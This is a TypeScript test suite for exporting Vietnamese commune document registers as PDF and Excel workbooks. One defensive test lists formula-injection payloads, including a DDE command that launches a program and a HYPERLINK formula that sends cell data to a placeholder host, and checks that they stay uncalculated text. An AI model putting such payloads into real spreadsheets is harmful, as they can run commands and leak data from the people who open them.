/** Registers as files: read by programs that had no part in making them. */
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect } from 'chai';
import type { Context } from 'mocha';
import { LYING } from '../../../src/lib/typesetting/book-pages.ts';
import { composeBook } from '../../../src/lib/typesetting/compose-book.ts';
import { PageFlow } from '../../../src/lib/typesetting/page-flow.ts';
import {
  DEMO_MARK,
  type PrintedBook,
  type PrintedColumn,
  type PrintedRow,
  struckOut,
} from '../../../src/lib/typesetting/printed-book.ts';
import { setLongTable } from '../../../src/lib/typesetting/set-long-table.ts';
import { writeWorkbook } from '../../../src/lib/typesetting/write-workbook.ts';
import { outgoingLayout } from '../../../src/office/documents/registers/register-layout.ts';
import { needs } from '../../support/needs.ts';
import { temporaryFolder } from '../../support/temporary-folder.ts';
import { readWorkbook } from '../../support/xlsx-reader.ts';

const long =
  'Quyết định về việc phê duyệt kế hoạch sử dụng đất năm 2026 của các xã thuộc huyện Yên Sơn, ' +
  'kèm danh mục công trình, dự án và các nhiệm vụ giao cho từng thôn, bản';

function line(number: number, subject = `${long} đợt ${number}`): PrintedRow {
  return [
    `${number}/QĐ-UBND`,
    { day: '2026-03-09' },
    subject,
    'Nguyễn Văn An',
    'UBND huyện',
    'Văn thư',
    2,
    null,
    '',
    '',
  ];
}

function bookOf(
  rows: readonly PrintedRow[],
  over: Partial<PrintedBook> & { columns?: readonly PrintedColumn[] } = {},
): PrintedBook {
  const { columns = outgoingLayout, ...rest } = over;
  return {
    parentAgency: 'ỦY BAN NHÂN DÂN HUYỆN YÊN SƠN',
    agency: 'ỦY BAN NHÂN DÂN XÃ CHÂN SƠN',
    title: 'SỔ ĐĂNG KÝ VĂN BẢN ĐI',
    lines: ['Năm: 2026', 'Quyển số: 01'],
    front: 'cover',
    tables: [{ name: 'Văn bản đi', columns, numbered: true, rows }],
    notes: ['Hết sổ.'],
    demo: true,
    ...rest,
  };
}

async function workbookBytes(book: PrintedBook): Promise<Buffer> {
  const pieces: Uint8Array[] = [];
  for await (const piece of writeWorkbook(book)) pieces.push(piece);
  return Buffer.concat(pieces);
}

describe('a register as PDF', function pdf() {
  this.timeout(60_000);
  const textOf = (context: Context, bytes: Uint8Array, ...options: string[]) => {
    const program = needs(context, 'pdftotext', 'poppler-utils');
    const file = join(temporaryFolder('book'), 'book.pdf');
    writeFileSync(file, bytes);
    return execFileSync(program, [...options, file, '-'], { maxBuffer: 1e8 }).toString();
  };
  const rows = Array.from({ length: 24 }, (_, index) => line(index + 1));

  it('running over pages, has the titles, the page number and the demo mark on each', async function test() {
    const pages = textOf(this, await composeBook(bookOf(rows)), '-raw')
      .split('\f')
      .slice(0, -1)
      .map((page) => page.replace(/\s+/g, ' '));
    const tables = pages.slice(2);
    expect(tables.length).to.be.greaterThan(2);
    const titles = outgoingLayout.map(({ title }) => title).join(' ');
    for (const page of tables) expect(page).to.include(`${titles} (1) (2) (3) (4) (5) (6) (7) (8) (9) (10)`);
    pages.forEach((page, index) => {
      expect(page).to.include(`Trang ${index + 1}/${pages.length}`);
      expect(page).to.include(DEMO_MARK);
    });
  });

  it('begins with a cover and an equal first page that name the book', async function test() {
    const [cover = '', first = ''] = textOf(
      this,
      await composeBook(bookOf(rows.slice(0, 1), { demo: false })),
    ).split('\f');
    for (const page of [cover, first])
      expect(page).to.include('ỦY BAN NHÂN DÂN XÃ CHÂN SƠN').and.include('SỔ ĐĂNG KÝ VĂN BẢN ĐI');
    expect(cover.replace('Trang 1', '')).to.equal(first.replace('Trang 2', ''));
    expect(cover).not.to.include('TRÌNH DIỄN');
  });

  it('with long subjects, wraps them whole in NFC, also when they were given in NFD', async function test() {
    const text = textOf(this, await composeBook(bookOf([line(1, long.normalize('NFD'))])));
    expect(text).to.equal(text.normalize('NFC'));
    expect(text.replace(/\s+/g, ' ')).to.include(long);
  });

  it('with a cell longer than a page, goes on with it on the next page and loses no word', async function test() {
    const words = Array.from({ length: 1500 }, (_, index) => `chữ${index}`);
    const text = textOf(
      this,
      await composeBook(bookOf([line(1), line(2, words.join(' ')), line(3)])),
      '-raw',
    );
    expect(text.match(/chữ\d+/g)).to.deep.equal(words);
  });

  it('whose signatures do not fit the last page, takes the closing words along with them to the next', async function test() {
    for (let lines = 5; lines <= 9; lines += 1) {
      const book = bookOf(rows.slice(0, lines), { notes: ['Lời khóa sổ.'], signatures: ['VĂN THƯ'] });
      const pages = textOf(this, await composeBook(book)).split('\f');
      const signed = pages.findIndex((page) => page.includes('VĂN THƯ\n'));
      expect(pages[signed], `${lines} lines`).to.include('Lời khóa sổ.');
    }
  });

  it('with a cell struck out, draws a line through each of its lines and through no other', async () => {
    const flow = new PageFlow(LYING);
    const row = line(1).map((cell, index) => (index === 2 || index === 6 ? struckOut(cell) : cell));
    await setLongTable(flow, { name: 'Sổ', columns: outgoingLayout, rows: [row, line(2)] });
    const lines = flow.marks.flatMap((mark) => (mark.kind === 'line' ? [mark] : []));
    const words = flow.marks.flatMap((mark) => (mark.kind === 'text' ? [mark] : []));
    const struck = words.filter(({ x, y }) =>
      lines.some((one) => Math.abs(one.x - x) < 0.01 && one.y > y && one.y < y + 5),
    );
    expect(struck).to.have.length(lines.length);
    expect(struck.map((mark) => mark.words.join(' ')).join(' ')).to.equal(`${long} đợt 1 2`);
  });

  it('made twice, is the same bytes; each page is A4 lying', async function test() {
    const program = needs(this, 'pdfinfo', 'poppler-utils');
    const bytes = await composeBook(bookOf(rows));
    expect(Buffer.from(await composeBook(bookOf(rows))).equals(bytes)).to.equal(true);
    const file = join(temporaryFolder('book'), 'book.pdf');
    writeFileSync(file, bytes);
    expect(execFileSync(program, [file]).toString()).to.match(/Page size:\s+841\.\d+ x 595\.\d+ pts \(A4\)/);
  });
});

describe('a register as a workbook', () => {
  it('read again, has the titles, texts as text, numbers as numbers and days as days', async () => {
    const [sheet] = readWorkbook(await workbookBytes(bookOf([line(1, 'Sổ <A> & "B"')], { demo: false })));
    const [titles, numbers, row] = sheet!.rows.slice(-4);
    expect(sheet!.name).to.equal('Văn bản đi');
    expect(titles!.map(({ value }) => value)).to.deep.equal(outgoingLayout.map(({ title }) => title));
    expect(numbers![9]!.value).to.equal('(10)');
    expect(row![0]).to.include({ type: 'inlineStr', value: '1/QĐ-UBND' });
    expect(row![1]).to.include({ type: 'n', value: String(Date.UTC(2026, 2, 9) / 86_400_000 + 25_569) });
    expect(row![1]!.format).to.equal('dd/mm/yyyy');
    expect(row![2]!.value).to.equal('Sổ <A> & "B"');
    expect(row![6]).to.include({ type: 'n', value: '2' });
  });

  it('CSV/XLSX formula injection in exports: what begins like a formula stays text that is never calculated', async () => {
    const attacks = [
      '=1+1',
      `=cmd|' /C calc'!A0`,
      '+84 24 3',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1',
      '\r=1',
      '=HYPERLINK("http://a.example/?x="&A1,"xem")',
    ];
    const columns = attacks.map((_, index) => ({ title: `=cột${index}`, share: 1 }));
    const bytes = await workbookBytes(
      bookOf([attacks], { columns, agency: '=AGENCY()', title: '@TITLE', notes: ['-note'] }),
    );
    const [sheet] = readWorkbook(bytes);
    const cells = sheet!.rows.flat();
    const dangerous = cells.filter(({ value }) => /^[=+\-@\t\r]/.test(value));
    expect(dangerous).to.have.length(attacks.length * 2 + 3);
    for (const cell of dangerous) {
      expect(cell.type).to.equal('inlineStr');
      expect(cell.format).to.equal('text');
      expect(cell.quotePrefix).to.equal(true);
    }
    expect(cells.some(({ hasFormula }) => hasFormula)).to.equal(false);
    expect(attacks.every((attack) => cells.some(({ value }) => value === attack))).to.equal(true);
  });

  it('with a cell struck out, has its text in a font with a line through it, never calculated', async () => {
    const bytes = await workbookBytes(
      bookOf([['=1+1', '=2+2'].map(struckOut)], {
        columns: [
          { title: 'a', share: 1 },
          { title: 'b', share: 1 },
        ],
      }),
    );
    const [sheet] = readWorkbook(bytes);
    const cells = sheet!.rows.flat().filter(({ value }) => value.startsWith('='));
    expect(
      cells.map(({ value, type, format, quotePrefix, struck }) => [value, type, format, quotePrefix, struck]),
    ).to.deep.equal([
      ['=1+1', 'inlineStr', 'text', true, true],
      ['=2+2', 'inlineStr', 'text', true, true],
    ]);
    expect(sheet!.rows.flat().filter(({ struck }) => struck)).to.have.length(2);
  });

  it('with texts longer than their columns, gives each row the height of all its lines', async () => {
    const rows = [line(1, 'Ngắn'), line(2), line(3, 'một\nhai\nba\nbốn')];
    const [sheet] = readWorkbook(await workbookBytes(bookOf(rows, { demo: false })));
    const heights = [...sheet!.xml.matchAll(/<row r="\d+"(?: ht="([\d.]+)")?>/g)].map(([, ht]) =>
      Number(ht ?? 0),
    );
    const [titles, numbers, short, long, broken] = heights.slice(-6, -1);
    expect([numbers, broken! >= 4 * 15]).to.deep.equal([0, true]);
    expect(titles).to.be.greaterThan(30);
    expect(short).to.be.lessThan(2.5 * 15.75);
    expect(long).to.be.greaterThan(5 * 15);
  });

  it('of invented data, says so on every sheet and every printed page', async () => {
    const book = bookOf([line(1)]);
    const two = { ...book, tables: [book.tables[0]!, { ...book.tables[0]!, name: 'Hai' }] };
    const sheets = readWorkbook(await workbookBytes(two));
    expect(sheets.map(({ rows }) => rows[0]![0]!.value)).to.deep.equal([DEMO_MARK, DEMO_MARK]);
    expect(sheets.every(({ xml }) => xml.includes(`<oddHeader>&amp;C${DEMO_MARK}</oddHeader>`))).to.equal(
      true,
    );
  });

  it('with characters that XML forbids and cells too long for Excel, stays readable', async () => {
    const bytes = await workbookBytes(bookOf([line(1, `a\u0000\u000b\ud800b`), line(2, 'x'.repeat(40_000))]));
    const [sheet] = readWorkbook(bytes);
    const subjects = sheet!.rows.flatMap((row) => (row.length === 10 ? [row[2]!.value] : []));
    expect(subjects[2]).to.equal('a\ufffdb');
    expect(subjects[3])
      .to.have.length(32_767)
      .and.match(/xem đủ ở bản PDF\)$/);
  });

  it('of 20,000 lines, comes in pieces and is a sound archive', async function test() {
    this.timeout(30_000);
    const unzip = needs(this, 'unzip', 'unzip');
    const rows = Array.from({ length: 20_000 }, (_, index) => line(index + 1));
    const pieces: Uint8Array[] = [];
    for await (const piece of writeWorkbook(bookOf(rows))) pieces.push(piece);
    expect(pieces.length).to.be.greaterThan(20);
    const file = join(temporaryFolder('book'), 'book.xlsx');
    writeFileSync(file, Buffer.concat(pieces));
    expect(execFileSync(unzip, ['-tq', file]).toString()).to.include('No errors detected');
  });
});
